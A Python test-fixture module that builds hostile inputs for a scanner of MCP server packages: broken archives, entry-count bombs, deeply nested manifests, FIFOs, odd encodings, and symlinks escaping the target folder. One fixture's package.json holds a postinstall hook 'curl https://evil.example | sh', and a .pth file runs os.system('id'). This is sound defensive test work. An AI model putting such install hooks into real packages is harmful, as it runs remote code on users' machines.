"""Generators of hostile inputs, written under a test's tmp_path (nothing is downloaded or kept).

Each returns the spec to inspect (a path). Big shapes are built streaming and as small as the
shape allows: the 200,000-member tar is zero-size members in a gzip stream of ~1.5 MB.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import socket
import struct
import tarfile
import zipfile
from pathlib import Path

# an MCP server in the shape of the Python SDK's FastMCP
SERVER_PY = '''from mcp.server.fastmcp import FastMCP

mcp = FastMCP("weather")


@mcp.tool()
def forecast(city: str) -> str:
    """Forecast for a city (pure text, no network)."""
    return f"sunny in {city}"


@mcp.tool()
def wind_chill(temp_c: float, wind_kmh: float) -> float:
    """Wind chill from temperature and wind speed."""
    return 13.12 + 0.6215 * temp_c - 11.37 * wind_kmh ** 0.16


def main() -> None:
    mcp.run()
'''
SERVER_TOOLS = ["forecast", "wind_chill"]

# the parts of the real `mcp` SDK that matter here: installed beside a server in a site-packages
MCP_SDK_FILES = {
    "mcp/__init__.py": "from .server.fastmcp import FastMCP\n",
    "mcp/server/__init__.py": "",
    "mcp/server/fastmcp/__init__.py": "from .server import FastMCP\n",
    "mcp/server/fastmcp/server.py": (
        "class FastMCP:\n"
        "    def __init__(self, name=None, **settings):\n"
        "        self.name = name\n"
        "        self._tools = {}\n\n"
        "    def tool(self, name=None, description=None):\n"
        "        def decorator(fn):\n"
        "            self._tools[name or fn.__name__] = fn\n"
        "            return fn\n"
        "        return decorator\n\n"
        "    def run(self):\n"
        "        pass\n"
    ),
}

TS_HEAD = '''import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { z } from "zod";

const server = new McpServer({ name: "echo", version: "1.0.0" });

server.registerTool("before_error", { description: "Echo a value.", inputSchema: { v: z.string() } },
  async ({ v }) => ({ content: [{ type: "text", text: v }] }));
'''
TS_TAIL = '''
server.registerTool("after_error", { description: "Echo a value twice.", inputSchema: { v: z.string() } },
  async ({ v }) => ({ content: [{ type: "text", text: v + v }] }));

server.tool("after_error_2", "Say hi.", {}, async () => ({ content: [{ type: "text", text: "hi" }] }));
'''
TS_BREAKERS = {
    "unclosed_class": "class Broken {\n  method() { return 1; }\n",
    "merge_conflict": "<<<<<<< HEAD\nconst mode = 1;\n=======\nconst mode = 2;\n>>>>>>> feature\n",
    "unclosed_block": "function broken(a: number) {\n  if (a) {\n    return 1;\n",
}


def write_files(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, content in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content.encode() if isinstance(content, str) else content)
    return root


def _targz(path: Path, members: list[tuple[str, bytes]]) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_700_000_000
            tf.addfile(info, io.BytesIO(data))
    path.write_bytes(buf.getvalue())
    return path


def _wheel(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return path


def zero_byte_archive(d: Path) -> Path:
    p = d / "pkg-1.0.tar.gz"
    p.write_bytes(b"")
    return p


def truncated_targz(d: Path) -> Path:
    full = _targz(d / "full.tar.gz", [("pkg-1.0/server.py", os.urandom(40_000))])
    data = full.read_bytes()
    full.unlink()
    p = d / "pkg-1.0.tar.gz"
    p.write_bytes(data[: len(data) // 2])
    return p


def html_as_targz(d: Path) -> Path:
    p = d / "pkg-1.0.tar.gz"
    p.write_bytes(b"<!DOCTYPE html>\n<html><head><title>404 Not Found</title></head><body>Not Found</body></html>\n")
    return p


def truncated_wheel(d: Path) -> Path:
    full = _wheel(d / "full.whl", [("pkg/__init__.py", b"x = 1\n" * 2000), ("pkg-1.0.dist-info/METADATA", b"Name: pkg\n")])
    data = full.read_bytes()
    full.unlink()
    p = d / "pkg-1.0-py3-none-any.whl"
    p.write_bytes(data[: len(data) // 2])
    return p


def empty_targz(d: Path) -> Path:
    return _targz(d / "pkg-1.0.tar.gz", [])


def empty_wheel(d: Path) -> Path:
    return _wheel(d / "pkg-1.0-py3-none-any.whl", [])


def folders_only_targz(d: Path) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name in ("pkg-1.0", "pkg-1.0/src", "pkg-1.0/src/pkg"):
            info = tarfile.TarInfo(name)
            info.type = tarfile.DIRTYPE
            tf.addfile(info)
    p = d / "pkg-1.0.tar.gz"
    p.write_bytes(buf.getvalue())
    return p


def links_only_targz(d: Path) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, target in (("pkg-1.0/setup.py", "/etc/passwd"), ("pkg-1.0/x.py", "../../../x.py")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            tf.addfile(info)
    p = d / "pkg-1.0.tar.gz"
    p.write_bytes(buf.getvalue())
    return p


def many_member_targz(d: Path, members: int = 200_000) -> Path:
    """`members` zero-size members, streamed (GNU headers, one 512-byte block each)."""
    p = d / "many-1.0.tar.gz"
    with gzip.open(p, "wb", compresslevel=1) as f:
        for i in range(members):
            info = tarfile.TarInfo(f"many-1.0/d{i // 1000}/m{i}.py")
            info.mtime = 0
            f.write(info.tobuf(tarfile.GNU_FORMAT))
        f.write(b"\0" * 1024)
    return p


def zip64_declaring_many_entries(d: Path, declared: int = 200_000) -> Path:
    """A zip of 65,536 empty entries (so it has zip64 end records) whose zip64 end record claims
    `declared` entries."""
    p = d / "many-1.0-py3-none-any.whl"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as zf:
        for i in range(0x10000):
            zf.writestr(zipfile.ZipInfo(f"many/m{i}.py"), b"")
    data = bytearray(p.read_bytes())
    at = data.rfind(b"PK\x06\x06")
    data[at + 24:at + 40] = struct.pack("<QQ", declared, declared)
    p.write_bytes(bytes(data))
    return p


def nested_json_folder(d: Path, depth: int = 100_000) -> Path:
    root = d / "deep"
    write_files(root, {"package.json": '{"a":' * depth + "1" + "}" * depth, "index.js": "module.exports = 1;\n"})
    return root


def nested_field_folder(d: Path, depth: int = 600) -> Path:
    """Nested under the JSON parser's recursion limit (so it parses), in a field that readers walk
    recursively: deep enough that a recursive reader called from deep in the stack overflows it."""
    root = d / "deepfield-folder"
    exports = '{"x":' * depth + '"./index.js"' + "}" * depth
    write_files(root, {"package.json": '{"name": "deepfield", "version": "1.0.0", "exports": ' + exports + "}",
                       "index.js": "module.exports = 1;\n"})
    return root


def nested_toml_folder(d: Path, depth: int = 100_000) -> Path:
    root = d / "deeptoml"
    write_files(root, {"pyproject.toml": "a = " + "[" * depth + "]" * depth + "\n", "app.py": "x = 1\n"})
    return root


ABSURD_PACKAGE_JSON = {
    "name": ["not", "a", "name"], "version": {"major": 1}, "description": 42, "scripts": "postinstall",
    "bin": 5, "main": ["index.js"], "module": 3, "exports": 7, "dependencies": ["left-pad", "lodash"],
    "devDependencies": "jest", "peerDependencies": 1, "optionalDependencies": {"a": 1, "b": ["x"]},
    "engines": [1], "repository": 5, "keywords": "mcp", "files": {"a": 1}, "type": 5,
    "bundleDependencies": "yes", "license": 3, "private": "no",
}


def absurd_package_json_folder(d: Path) -> Path:
    root = d / "absurd"
    write_files(root, {"package.json": json.dumps(ABSURD_PACKAGE_JSON), "index.js": "module.exports = 1;\n"})
    return root


ABSURD_PYPROJECT = '''[project]
name = 5
version = [1, 2]
dependencies = "mcp"
scripts = ["serve"]
urls = 3
optional-dependencies = { cli = "typer" }

[project.entry-points]
console = 1

[build-system]
requires = "hatchling"
build-backend = ["x"]
backend-path = 5

[tool]
poetry = "nope"
'''


def absurd_pyproject_folder(d: Path) -> Path:
    root = d / "absurdpy"
    write_files(root, {"pyproject.toml": ABSURD_PYPROJECT, "app.py": "x = 1\n"})
    return root


def project_table_is_an_array_folder(d: Path) -> Path:
    root = d / "arraypy"
    write_files(root, {"pyproject.toml": 'project = ["a"]\n', "app.py": "x = 1\n"})
    return root


def special_files_folder(d: Path) -> Path:
    """A FIFO as a source file and as package.json, plus a unix socket (opening a FIFO blocks)."""
    root = d / "special"
    write_files(root, {"server.py": SERVER_PY})
    os.mkfifo(root / "pipe.py")
    os.mkfifo(root / "package.json")
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.bind(str(root / "s.sock"))
    except OSError:  # path too long for AF_UNIX on this machine: the FIFOs still make the shape
        pass
    finally:
        sock.close()
    return root


OUTSIDE_NAME = "evil-outside-name"
OUTSIDE_DEP = "outside-only-dependency"


def symlinks_out_folder(d: Path) -> tuple[Path, Path]:
    """Manifests, metadata, a source file and a folder that are links to files outside the target."""
    outside = d / "outside"
    write_files(outside, {
        "package.json": json.dumps({"name": OUTSIDE_NAME, "version": "6.6.6",
                                    "scripts": {"postinstall": "curl https://evil.example | sh"},
                                    "dependencies": {OUTSIDE_DEP: "1.0.0"}}),
        "pyproject.toml": f'[project]\nname = "{OUTSIDE_NAME}"\ndependencies = ["{OUTSIDE_DEP}"]\n',
        "METADATA": f"Metadata-Version: 2.1\nName: {OUTSIDE_NAME}\nRequires-Dist: {OUTSIDE_DEP}\n",
        "secret.py": "import os\nos.system('echo outside')\n",
        "lib/mod.py": "import subprocess\n",
        "setup.py": "import os\n",
        "x.pth": "import os; os.system('id')\n",
    })
    root = d / "target"
    write_files(root, {"server.py": SERVER_PY, "pkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n"})
    for name in ("package.json", "pyproject.toml", "secret.py", "setup.py", "x.pth"):
        os.symlink(outside / name, root / name)
    os.symlink(outside / "METADATA", root / "pkg-1.0.dist-info" / "METADATA")
    os.symlink(outside / "lib", root / "lib")
    os.symlink(".", root / "loop")  # a folder link to itself
    return root, outside


def many_links_folder(d: Path, count: int = 5000) -> Path:
    root = d / "links"
    write_files(root, {"app.py": "x = 1\n"})
    for i in range(count):
        os.symlink("/etc/hostname", root / f"l{i}.py")
    return root


def encodings_folder(d: Path) -> Path:
    root = d / "enc"
    write_files(root, {
        "package.json": '{"name": "enc", "version": "1.0.0"}'.encode("utf-16"),
        "pyproject.toml": b'[project]\nname = "\xff\xfe"\n',
        "nul.py": b"\x00" * 4096,
        "bom16.py": "x = 1\n".encode("utf-16"),
        "latin.js": "const s = 'caf\xe9';\n".encode("latin-1"),
        "index.js": "module.exports = 1;\n",
    })
    return root


def site_packages_folder(d: Path, others: int = 40) -> Path:
    """A site-packages: `others` distributions, the MCP SDK, and one server that requires it."""
    root = d / "site-packages"
    files: dict[str, str | bytes] = dict(MCP_SDK_FILES)
    files["mcp-1.29.0.dist-info/METADATA"] = "Metadata-Version: 2.1\nName: mcp\nVersion: 1.29.0\nRequires-Dist: anyio\n"
    files["mcp-1.29.0.dist-info/RECORD"] = "".join(f"{p},,\n" for p in MCP_SDK_FILES) + "mcp-1.29.0.dist-info/METADATA,,\n"
    for i in range(others):
        name = f"lib{i:02d}"
        mod = {f"{name}/__init__.py": "import os\n\ndef run(cmd):\n    return os.system(cmd)\n",
               f"{name}/util.py": "import subprocess\n\ndef call(a):\n    return subprocess.run(a)\n"}
        files.update(mod)
        files[f"{name}-1.{i}.dist-info/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.{i}\n"
        files[f"{name}-1.{i}.dist-info/RECORD"] = "".join(f"{p},,\n" for p in mod)
    server = {"weather_mcp/__init__.py": "", "weather_mcp/server.py": SERVER_PY}
    files.update(server)
    files["weather_mcp-2.0.dist-info/METADATA"] = ("Metadata-Version: 2.1\nName: weather-mcp\nVersion: 2.0\n"
                                                   "Requires-Dist: mcp>=1.2\nRequires-Dist: typer; extra == 'cli'\n")
    files["weather_mcp-2.0.dist-info/RECORD"] = "".join(f"{p},,\n" for p in server)
    files["weather_mcp-2.0.dist-info/entry_points.txt"] = "[console_scripts]\nweather-mcp = weather_mcp.server:main\n"
    return write_files(root, files)


def server_alone_folder(d: Path) -> Path:
    root = d / "alone"
    return write_files(root, {
        "weather_mcp/__init__.py": "", "weather_mcp/server.py": SERVER_PY,
        "weather_mcp-2.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: weather-mcp\nVersion: 2.0\n"
                                              "Requires-Dist: mcp>=1.2\n",
        "weather_mcp-2.0.dist-info/entry_points.txt": "[console_scripts]\nweather-mcp = weather_mcp.server:main\n",
    })


def ts_syntax_error_folder(d: Path, breaker: str) -> Path:
    root = d / f"ts-{breaker}"
    return write_files(root, {
        "package.json": json.dumps({"name": "ts-echo", "version": "1.0.0", "type": "module",
                                    "dependencies": {"@modelcontextprotocol/sdk": "^1.15.0", "zod": "^3.24.0"}}),
        "src/index.ts": TS_HEAD + TS_BREAKERS[breaker] + TS_TAIL,
    })
